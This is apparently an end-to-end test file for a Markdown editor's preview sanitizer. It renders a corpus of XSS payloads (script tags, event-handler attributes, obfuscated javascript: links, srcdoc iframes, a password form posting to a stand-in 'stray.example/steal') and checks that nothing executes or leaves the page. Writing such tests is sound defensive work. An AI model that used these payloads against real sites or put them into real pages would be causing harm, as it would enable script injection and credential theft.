import type { Doc } from '@cairn/contracts';
import { launchBrowser } from '@cairn/test-kit/browser';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type RunningServer, startServer } from '../start-server.ts';
import { callApi } from './api.steps.ts';
import { previewOf } from './editor.steps.ts';
import { makeSample, setUp } from './entry.steps.ts';
import { ATTACK, heads, samples } from './hostile-samples.ts';
import { type Visitor, newVisitor } from './visitor.ts';

const PER_DOCUMENT = Math.ceil(samples.length / heads.length);
const PIXEL =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
const SVG = `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${ATTACK}"><script>${ATTACK}</script></svg>`)}`;

const corpus = [
  '# Safe heading',
  `<script>${ATTACK}</script>`,
  `Inline <script>${ATTACK}</script> and <img src=x onerror="${ATTACK}"> and <svg onload="${ATTACK}">.`,
  `<img src="https://stray.example/pixel.png" onerror="${ATTACK}">`,
  `<iframe src="https://stray.example/" srcdoc="<script>parent.attacked=1</script>"></iframe>`,
  `<form action="https://stray.example/steal" method="post"><input name="password" autofocus onfocus="${ATTACK}"><button>Go</button></form>`,
  '<base href="https://stray.example/"><meta http-equiv="refresh" content="0;url=https://stray.example/">',
  '<style>@import url("https://stray.example/a.css"); * { display: none }</style>',
  '<link rel="stylesheet" href="https://stray.example/b.css">',
  `<details open ontoggle="${ATTACK}"><summary>x</summary></details>`,
  `<a href="javascript:${ATTACK}">raw</a> <math><mtext><table><mglyph><style><img src onerror="${ATTACK}">`,
  `[plain](javascript:${encodeURIComponent(ATTACK)})`,
  `[cased](JaVaScRiPt:${encodeURIComponent(ATTACK)})`,
  `[broken](java&#10;script:${encodeURIComponent(ATTACK)})`,
  `[entity](&#106;avascript&colon;${encodeURIComponent(ATTACK)})`,
  `[vb](vbscript:msgbox) [page](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [blob](blob:https://stray.example/1)`,
  `<javascript:${encodeURIComponent(ATTACK)}>`,
  `[reference]\n\n[reference]: javascript:${encodeURIComponent(ATTACK)}`,
  '![tracker](https://stray.example/t.png) ![half](//stray.example/t.png) ![own](/api/auth/logout)',
  `![script](javascript:${encodeURIComponent(ATTACK)})`,
  `![pixel](${PIXEL})`,
  `![vector](${SVG})`,
  `[title](https://example.com/ "&quot; onmouseover=&quot;${ATTACK}")`,
  '```html\n<script>window.attacked=1</script>\n```',
  `<div style="position:fixed;inset:0;background:url(https://stray.example/c.png)">`,
].join('\n\n');

let server: RunningServer;
let browser: Browser;
let visitor: Visitor;
let page: Page;
let projectId: string;
const dialogs: string[] = [];

beforeAll(async () => {
  server = await startServer();
  browser = await launchBrowser();
  visitor = await newVisitor(browser, server.url);
  page = visitor.page;
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await setUp(page, server);
  projectId = await makeSample(page);
});

afterAll(async () => {
  await browser?.close();
  await server?.stop();
});

test('[A32][S40] of a hostile document, only harmless elements are made, and nothing runs or leaves', async () => {
  await open('hostile.md', corpus);
  await previewOf(page).getByRole('heading', { name: 'Safe heading' }).waitFor();
  await previewOf(page).getByAltText('pixel').waitFor();

  expect(
    await inPreview(
      'script, iframe, form, button:not([aria-label]), object, embed, base, meta, link, style, svg:not([aria-hidden]), details, math',
    ),
  ).toEqual([]);
  expect(await previewOf(page).evaluate(handlersBelow)).toEqual([]);
  const schemes = await previewOf(page)
    .locator('a[href]')
    .evaluateAll((links) => [...new Set(links.map((link) => (link as HTMLAnchorElement).protocol))]);
  expect(schemes).toEqual(['https:']);
  const images = await previewOf(page)
    .locator('img')
    .evaluateAll((all) => all.map((image) => image.getAttribute('src')?.slice(0, 15)));
  expect(images).toEqual(['data:image/png;', 'data:image/svg+']);
  await expectUnharmed();
});

test('[A32][S40] clicking through every dead and living link of it runs nothing', async () => {
  const address = page.url();
  for (const link of await previewOf(page).locator('.dead-link').all()) await link.click();
  for (const name of ['plain', 'cased', 'broken', 'entity', 'vb', 'page', 'blob', 'reference']) {
    await previewOf(page).getByText(name, { exact: true }).first().click();
  }
  expect(page.url()).toBe(address);
  expect(visitor.context.pages()).toHaveLength(1);
  await expectUnharmed();
});

test('[A32][S40] there are at least three hundred samples', () => {
  expect(samples.length + heads.length).toBeGreaterThanOrEqual(300);
});

test.each(heads.map((head, at) => ({ head, at })))(
  '[A32][S40] the samples of document $at are shown as text, links and pictures only',
  async ({ head, at }) => {
    const batch = samples.slice(at * PER_DOCUMENT, (at + 1) * PER_DOCUMENT);
    const body = batch.map((sample, index) => `${sample}\n\nSample ${index} ends.`).join('\n\n');
    await open(`samples-${at}.md`, `${head}\n# Samples\n\n${body}\n\nThe end.`);
    await previewOf(page).getByText('The end.', { exact: true }).waitFor();
    await previewOf(page).getByRole('table', { name: 'Front matter' }).waitFor();

    // Each of them ended where it should, so that none hid the next.
    expect(
      await previewOf(page)
        .getByText(/^Sample \d+ ends\.$/)
        .count(),
    ).toBe(batch.length);
    expect(await previewOf(page).evaluate(tagsBelow)).toEqual([]);
    expect(await previewOf(page).evaluate(handlersBelow)).toEqual([]);
    expect(await previewOf(page).evaluate(addressesBelow)).toEqual([]);
    await expectUnharmed();
  },
);

test.each([
  ['two thousand table rows', `| a | b |\n| --- | --- |\n${'| x | y |\n'.repeat(2000)}\nThe end.`],
  ['quotes in quotes', `${'> '.repeat(1500)}deep\n\nThe end.`],
  [
    'lists in lists',
    `${Array.from({ length: 150 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')}\n\nThe end.`,
  ],
  ['one line of a hundred thousand characters', `${'wide'.repeat(25_000)}\n\nThe end.`],
  ['brackets without an end', `${'['.repeat(2000)}\n\n${'*a _b '.repeat(2000)}\n\nThe end.`],
])('%s are shown, and the page stays usable', async (name, text) => {
  await open(`${name.replaceAll(' ', '-')}.md`, text);
  await previewOf(page).getByText('The end.').waitFor();
  const wider = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  expect(wider).toBeLessThanOrEqual(0);
  await page.getByRole('button', { name: 'Preview', exact: true }).click();
  await page.getByRole('button', { name: 'Text and preview' }).click();
});

test('[S40] a document’s name and a project’s description are text, whatever they hold', async () => {
  const markup = `<img src=x onerror="${ATTACK}">`;
  const made = await callApi<{ id: string }>(page, 'POST', '/api/projects', {
    name: markup.slice(0, 90),
    description: `${markup} [x](javascript:alert(1))`,
  });
  await page.goto(`/projects/${made.id}`);
  await page.getByText('javascript:alert(1)').waitFor();
  expect(await page.locator('main img').count()).toBe(0);
  await expectUnharmed();
});

async function open(fileName: string, content: string): Promise<void> {
  const doc = await callApi<Doc>(page, 'POST', `/api/projects/${projectId}/docs`, { fileName, content });
  await page.goto(`/editor/${projectId}/${doc.id}`);
  await previewOf(page).waitFor();
}

async function inPreview(selector: string): Promise<string[]> {
  return previewOf(page)
    .locator(selector)
    .evaluateAll((found) => found.map((element) => element.outerHTML.slice(0, 120)));
}

function handlersBelow(root: Element): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) =>
    [...element.attributes].filter(({ name }) => name.startsWith('on')).map(({ name }) => name),
  );
}

/** Elements that Markdown has no need of. */
function tagsBelow(root: Element): string[] {
  const known =
    /^(h[1-6]|p|a|img|ul|ol|li|blockquote|pre|code|em|strong|del|table|thead|tbody|tr|th|td|hr|br|span|div|sup|section)$/;
  const ofOurs = 'input[type=checkbox][disabled], button[aria-label], button svg, .image-chip svg, svg *';
  return [...root.querySelectorAll('*')]
    .filter((element) => !known.test(element.localName) && !element.matches(ofOurs))
    .map((element) => element.outerHTML.slice(0, 120));
}

/** Links and pictures that lead to more than the web, a mailbox or a picture in the text. */
function addressesBelow(root: Element): string[] {
  const links = [...root.querySelectorAll<HTMLAnchorElement>('a[href]')]
    .filter(({ protocol }) => !['https:', 'http:', 'mailto:'].includes(protocol))
    .map(({ href }) => href);
  const pictures = [...root.querySelectorAll('img')]
    .map(({ src }) => src)
    .filter((src) => !src.startsWith('data:image/') && !src.startsWith(`${window.location.origin}/`));
  return [...links, ...pictures];
}

async function expectUnharmed(): Promise<void> {
  expect(await page.evaluate(() => 'attacked' in window || document.title === 'attacked')).toBe(false);
  expect({ dialogs, strays: visitor.strays, complaints: visitor.complaints }).toEqual({
    dialogs: [],
    strays: [],
    complaints: [],
  });
}
